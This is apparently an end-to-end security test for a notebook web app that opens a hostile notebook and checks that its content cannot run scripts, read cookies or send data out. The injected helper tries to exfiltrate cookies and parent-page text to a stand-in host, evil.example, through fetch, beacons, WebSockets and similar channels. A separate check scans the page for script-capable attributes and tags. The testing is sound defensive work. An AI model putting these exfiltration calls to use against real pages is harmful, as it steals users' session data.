/**
 * A notebook that somebody hostile made is opened by the owner of the server, the one with most to lose. No script runs in
 * the page, nothing of the reader is within a script's reach, nothing goes out, and the page can still be used.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, newPerson, type Person, screenshot, signIn } from './support/browser.ts';
import { hostileNames, hostileNotebook } from './support/hostile-cells.ts';
import { firstProject } from './support/http.ts';
import { badge, cellTextOf, openNotebook, typeIn } from './support/notebook-page.ts';
import { ServerProcess } from './support/server-process.ts';

/** What a script found where it ran. */
interface Found {
  readonly name: string;
  readonly isPage: boolean;
  readonly cookie: string;
  readonly parent: string;
}

declare global {
  interface Window {
    told(found: Omit<Found, 'isPage'>): Promise<void>;
    attack(name: string): void;
  }
}

/** In every window: takes what it can get and tells it. */
function arm(): void {
  const reach = (read: () => unknown): string => {
    try {
      return String(read());
    } catch {
      return '';
    }
  };
  window.attack = (name) => {
    const cookie = reach(() => document.cookie) + reach(() => indexedDB.open('x').readyState && '');
    const parentText = reach(() => (parent === window ? '' : parent.document.body.innerText.slice(0, 40)));
    void window.told({ name, cookie, parent: parentText });
    const out = `https://evil.example/exfiltrated-${name}`;
    for (const send of [
      () => void fetch(out, { mode: 'no-cors' }).catch(() => undefined),
      () => void fetch('/api/me', { credentials: 'include' }).catch(() => undefined),
      () => navigator.sendBeacon(out),
      () => new WebSocket(out.replace('https', 'wss')),
      () => new EventSource(out),
      () => new XMLHttpRequest().open('GET', out),
      () => alert(name),
    ])
      reach(send);
  };
}

describe('a hostile notebook', () => {
  let browser: Browser;
  let server: ServerProcess;
  let folder: string;
  let ada: Person;
  let project: string;
  const found: Found[] = [];
  const foreign: Request[] = [];
  const strange: string[] = [];

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'cahier-hostile-'));
    writeFileSync(join(folder, 'hostile.ipynb'), hostileNotebook());
    for (const name of hostileNames) writeFileSync(join(folder, name), 'x');
    browser = await launchBrowser();
    server = await ServerProcess.start({ folder });
    project = await firstProject(server);
    ada = await newPerson(browser, 'Ada', { serviceWorkers: 'block' });
    await signIn(ada, server);
    const { page, context } = ada;
    await context.route(
      (url) => url.origin !== server.origin,
      async (route) => {
        foreign.push(route.request());
        await route.abort();
      },
    );
    await page.exposeBinding('told', ({ frame }, what: Omit<Found, 'isPage'>) => {
      found.push({ ...what, isPage: frame === page.mainFrame() });
    });
    await page.addInitScript(arm);
    page.on('dialog', (dialog) => {
      strange.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('download', (download) => strange.push(`download: ${download.url()}`));
    page.on('websocket', (socket) => {
      if (!socket.url().startsWith(server.origin.replace('http', 'ws')))
        strange.push(`socket: ${socket.url()}`);
    });
    context.on('page', (opened) => strange.push(`window: ${opened.url()}`));
    await openNotebook(ada, server, project, 'hostile.ipynb');
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    rmSync(folder, { recursive: true, force: true });
  });

  it('runs nothing in the page, reaches nothing of the reader, leaves nowhere', async () => {
    const { page } = ada;
    const cells = page.locator('[data-cell]');
    const count = await cells.count();
    for (let i = 0; i < count; i += 1) {
      await cells.nth(i).scrollIntoViewIfNeeded();
      await page.waitForFunction(() => new Promise((done) => requestAnimationFrame(() => done(true))));
    }
    // The frames are not empty: where scripts may run they did, and found nothing.
    await expect.poll(() => found.map(({ name }) => name)).toContain('html-spoofing');
    await expect.poll(() => found.map(({ name }) => name)).toContain('mime-javascript');
    expect(found.filter(({ isPage }) => isPage)).toEqual([]);
    expect(found.filter(({ cookie, parent }) => cookie !== '' || parent !== '')).toEqual([]);
    expect(strange).toEqual([]);
    expect(page.url()).toBe(`${server.origin}/p/${project}/edit/hostile.ipynb`);
    expect(foreign.map((request) => `${request.resourceType()} ${request.url()}`)).toEqual([]);
  });

  it('has no link, no attribute and no sheet in the page that could do it later', async () => {
    const left = await ada.page.evaluate(() => {
      const wrong: string[] = [];
      for (const element of document.querySelectorAll('[data-cell] *')) {
        if (element.closest('.cm-editor')) continue;
        for (const { name, value } of element.attributes) {
          const isHandler = name.startsWith('on');
          const isAddress = /^(href|src|xlink:href|action|formaction|poster|srcset|ping)$/.test(name);
          const runs = isAddress && /^\s*(javascript|vbscript|data:(?!image\/))/i.test(value);
          if (isHandler || runs || /commandlinker|popover/.test(name)) wrong.push(`${name}=${value}`);
        }
        if (/^(SCRIPT|BASE|META|LINK|OBJECT|EMBED|FORM)$/.test(element.tagName)) wrong.push(element.tagName);
        if (element instanceof HTMLAnchorElement && !['', '_blank', '_self'].includes(element.target))
          wrong.push(`target=${element.target}`);
        if (
          element instanceof HTMLAnchorElement &&
          element.target === '_blank' &&
          !element.rel.includes('noopener')
        )
          wrong.push(`rel of ${element.href}`);
        if (
          element instanceof HTMLIFrameElement &&
          /allow-(same-origin|top-navigation|popups)/.test(element.sandbox.value)
        )
          wrong.push(element.sandbox.value);
      }
      return { wrong, isPolluted: 'polluted' in {} };
    });
    expect(left).toEqual({ wrong: [], isPolluted: false });
  });

  it('loads from the internet when the reader says so: pictures, scripts and styles, with nothing of theirs', async () => {
    const { page } = ada;
    const asked = page.getByRole('group', { name: 'Load parts from the internet?' }).first();
    await asked.scrollIntoViewIfNeeded();
    await expect.poll(() => asked.innerText()).toContain('evil.example');
    await screenshot(ada, 'hostile-internet');
    await asked.getByRole('button').click();
    await expect.poll(() => foreign.map((request) => request.resourceType())).toContain('image');
    await expect
      .poll(() => page.getByRole('group', { name: 'Load parts from the internet?' }).count())
      .toBe(0);
    const types = new Set(foreign.map((request) => request.resourceType()));
    for (const type of types) expect(['image', 'stylesheet', 'script', 'font', 'other']).toContain(type);
    for (const request of foreign) {
      const { cookie, referer, origin } = await request.allHeaders();
      expect([cookie, referer, origin ?? 'null']).toEqual([undefined, undefined, 'null']);
      expect(request.url()).not.toContain('exfiltrated');
    }
    expect(found.filter(({ isPage, cookie, parent }) => isPage || cookie !== '' || parent !== '')).toEqual(
      [],
    );
    expect(strange).toEqual([]);
  });

  it('leaves the page usable', async () => {
    const { page } = ada;
    await page.locator('[data-cell]').first().scrollIntoViewIfNeeded();
    await typeIn(ada, 1, ' + 1');
    expect(await cellTextOf(ada, 1)).toBe('a = 1 + 1');
    await expect.poll(() => badge(ada).innerText()).toBe('Saved');
    // A click that lands on what it is meant for: nothing covers the page.
    await page.getByRole('button', { name: 'Share' }).click();
    await page.locator('dialog[open]').waitFor();
    await page.keyboard.press('Escape');
    await screenshot(ada, 'hostile-notebook');
  });

  it('has names of files that are only names', async () => {
    const { page } = ada;
    await page.goto(`${server.origin}/p/${project}`);
    for (const name of hostileNames.slice(0, 2))
      await page.getByText(name, { exact: false }).first().waitFor();
    expect(found.filter(({ isPage }) => isPage)).toEqual([]);
    expect(strange).toEqual([]);
  });
});
